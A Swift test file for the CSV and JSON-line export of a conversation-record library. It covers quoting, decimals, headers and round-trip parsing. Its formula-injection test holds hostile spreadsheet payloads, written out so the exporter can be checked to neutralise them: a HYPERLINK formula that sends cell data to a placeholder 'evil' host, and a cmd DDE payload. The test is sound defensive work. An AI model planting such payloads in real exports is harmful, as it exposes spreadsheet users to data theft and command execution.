import Testing
@testable import DialogCore

/// CSV as Excel reads it, and export JSON lines that the record parser reads back to the
/// same record.
@Suite("Export format")
struct ExportFormatTests {
    @Test("RFC 4180: quotes only where needed, doubled quotes, CRLF records")
    func quoting() {
        #expect(Escape.csvRecord(["a", "b c", ""], delimiter: UInt8(ascii: ",")) == "a,b c,\r\n")
        #expect(Escape.csvRecord(["1,5", "say \"hi\"", "two\nlines", " pad"], delimiter: UInt8(ascii: ",")) == "\"1,5\",\"say \"\"hi\"\"\",\"two\nlines\",\" pad\"\r\n")
        #expect(Escape.csvRecord(["1,5", "a;b"], delimiter: UInt8(ascii: ";")) == "1,5;\"a;b\"\r\n")
    }

    static let row: [String: JSONValue] = [
        "id": .number("7"), "key": .string("sha256:ab"), "date": .number("1795906800"), "utc_offset": .number("3600"),
        "employee": .string("anna"), "channel": .string("email"), "outcome": .string("resolved"), "duration_s": .number("1830"),
        "value_cents": .number("-1250"), "currency": .string("EUR"), "subject": .string("Rückruf, \"dringend\""),
        "text": .string("Zeile 1\nZeile 2"), "tags": .array([.string("a"), .string("b")]),
        "extras": .array([.object([JSONMember(key: "name", value: .string("ticket"), line: 0), JSONMember(key: "value", value: .string("T-1"), line: 0)])]),
        "department_counted": .string("service"), "cost_cents": .number("1270"), "value_cents_counted": .number("-1250"),
        "net_cents": .number("-2520"), "department_confidence": .number("0.91"), "future_field": .string("x"),
    ]

    @Test("CSV cells: RFC 3339 date, decimals per delimiter, lists, pairs; unknown keys become columns")
    func csv() throws {
        let columns = ExportFormat.columns(sample: [Self.row])
        #expect(columns.last == "future_field" && columns.first == "id")
        let line = ExportFormat.csv(Self.row, columns: columns, delimiter: ";")
        // As the record reader reads CSV: line ends as written (the parser takes CRLF itself).
        let text = Array(try TextDecoding.decode(Array(line.utf8), foldingLineEnds: false).bytes)
        let fields = try text.withUnsafeBufferPointer { b in
            var parser = CSVParser(b)
            parser.delimiter = UInt8(ascii: ";")
            return try #require(try parser.nextRow()).fields.map(\.text)
        }
        let cell = { (name: String) in fields[columns.firstIndex(of: name)!] }
        #expect(fields.count == columns.count)
        #expect(cell("date") == "2026-11-29T00:00:00+01:00" && cell("date_unix") == "1795906800")
        #expect(cell("date_local") == "2026-11-29 00:00:00")
        #expect(cell("cost") == "12,70" && cell("net") == "-25,20" && cell("value") == "-12,50")
        #expect(cell("department_confidence") == "0,91")
        #expect(cell("subject") == "Rückruf, \"dringend\"" && cell("text") == "Zeile 1\nZeile 2")
        #expect(cell("tags") == "a, b" && cell("extras") == "ticket=T-1")
        #expect(cell("future_field") == "x", "\(fields.last ?? "")")
        #expect(line.hasSuffix("\r\n"))
        #expect(ExportFormat.csv(Self.row, columns: columns, delimiter: ",").contains(",12.70,"))
    }

    @Test("text a spreadsheet would run as a formula is made inert; computed numbers stay numbers")
    func formulaInjection() throws {
        var row = Self.row
        row["employee"] = .string("=HYPERLINK(\"http://evil/?\"&A1,\"click\")")
        row["subject"] = .string("+cmd|' /C calc'!A0")
        row["customer"] = .string("@SUM(1+1)")
        row["text"] = .string("-2+3")
        row["tags"] = .array([.string("=1+1")])
        let columns = ExportFormat.columns(sample: [row])
        let line = ExportFormat.csv(row, columns: columns, delimiter: ",")
        let text = Array(try TextDecoding.decode(Array(line.utf8), foldingLineEnds: false).bytes)
        let cells = try text.withUnsafeBufferPointer { b in
            var parser = CSVParser(b)
            return try #require(try parser.nextRow()).fields.map(\.text)
        }
        let cell = { (name: String) in cells[columns.firstIndex(of: name)!] }
        #expect(cell("customer") == "'@SUM(1+1)" && cell("text") == "'-2+3" && cell("tags") == "'=1+1")
        #expect(cell("employee").hasPrefix("'=HYPERLINK(") && cell("subject") == "'+cmd|' /C calc'!A0")
        #expect(cell("value_cents") == "-1250" && cell("net") == "-25.20" && cell("net_cents") == "-2520", "numbers are not text")
        #expect(Escape.csvInert("plain") == "plain" && Escape.csvInert("") == "" && Escape.csvInert("\tx") == "'\tx")
    }

    @Test("a JSON line is a record the parser reads back to the same fields")
    func jsonLineRoundTrip() throws {
        let line = ExportFormat.jsonLine(Self.row, currency: "EUR", recordsOnly: false)
        let file = try RecordReader(settings: testSettings()).read(Array(line.utf8), fileName: "x.jsonl")
        let record = try #require(file.records.first?.record)
        #expect(record.date == 1_795_906_800 && record.utcOffsetSeconds == 3600)
        #expect(record.employee == "anna" && record.outcome == "resolved" && record.department == nil)
        #expect(record.durationSeconds == 1830 && record.valueCents == -1250 && record.currency == "EUR")
        #expect(record.subject == "Rückruf, \"dringend\"" && record.text == "Zeile 1\nZeile 2" && record.tags == ["a", "b"])
        // The dialogd object is reserved: never an extra; without site and revision (a row of an
        // older dialogd) it makes no shipped copy.
        #expect(record.extras == ["ticket": "T-1"] && record.shipped == nil)
        #expect(line.contains("\"dialogd\":{") && line.contains("\"cost_cents\":1270"))

        // A row of a site: a shipped copy with the site's revision (its own numbering), key and figures.
        var shippedRow = Self.row
        shippedRow["external_id"] = .string("T7")
        shippedRow["key"] = .string("site:north/id:T7")
        shippedRow["site"] = .string("north")
        shippedRow["revision"] = .number("9")
        shippedRow["site_revision"] = .number("4")
        shippedRow["outcome_counted"] = .string("resolved")
        shippedRow["duration_s_counted"] = .number("1830")
        let copy = try #require(try RecordReader(settings: testSettings()).read(
            Array(ExportFormat.jsonLine(shippedRow, currency: "EUR", recordsOnly: false).utf8), fileName: "x.jsonl").records.first?.record)
        #expect(copy.id == "T7" && copy.shipped?.site == "north" && copy.shipped?.revision == 4 && copy.shipped?.key == "id:T7")
        #expect(copy.shipped?.priced == PricedConversation(department: "service", outcome: "resolved", durationSeconds: 1830,
                                                           costCents: 1270, valueCents: -1250))

        let plain = ExportFormat.jsonLine(Self.row, currency: "EUR", recordsOnly: true)
        let again = try #require(try RecordReader(settings: testSettings()).read(Array(plain.utf8), fileName: "x.jsonl").records.first?.record)
        #expect(again.extras == ["ticket": "T-1"])
    }

    @Test("the CSV header is the same for every export of a release: raw labels and label sources are columns even when the first page has none (a warehouse COPY names them)")
    func stableHeader() {
        let empty = ExportFormat.columns(sample: [])
        var raw = Self.row
        raw["raw_department"] = .string("Vetrieb")
        raw["raw_channel"] = .string("Telefon")
        raw["labels"] = .object([])
        #expect(ExportFormat.columns(sample: [raw]) == empty + ["future_field"])
        #expect(["labels", "raw_channel", "raw_department", "raw_outcome"].allSatisfy(empty.contains))
    }

    @Test("a JSON line writes labels as the writer wrote them (alias or no label), and the dialogd object the counted channel and label sources")
    func jsonLineWrittenLabels() throws {
        var row = Self.row
        row["department"] = nil
        row["raw_department"] = .string("Vetrieb")
        row["outcome"] = nil
        row["raw_outcome"] = .string("Interessnt")
        row["channel"] = .string("phone")
        row["raw_channel"] = .string("Telefon")
        row["labels"] = .object([JSONMember(key: "department", value: .object([JSONMember(key: "source", value: .string("logged"), line: 0)]), line: 0)])
        let line = ExportFormat.jsonLine(row, currency: "EUR", recordsOnly: false)
        let record = try #require(try RecordReader(settings: testSettings()).read(Array(line.utf8), fileName: "x.jsonl").records.first?.record)
        #expect((record.rawDepartment ?? record.department)?.lowercased() == "vetrieb", "\(line)")
        #expect((record.rawOutcome ?? record.outcome)?.lowercased() == "interessnt", "\(line)")
        #expect(line.contains("\"channel\":\"Telefon\""), "\(line)")
        let dialogd = try #require(line.firstMatch(of: /"dialogd":(\{.*\})\}\n$/)?.1)
        #expect(dialogd.contains("\"channel_counted\":\"phone\"") && dialogd.contains("\"labels\":{\"department\":{\"source\":\"logged\"}}"), "\(dialogd)")
        #expect(!line.contains("raw_"), "the raw labels are the record's own fields, not copies")
    }
}
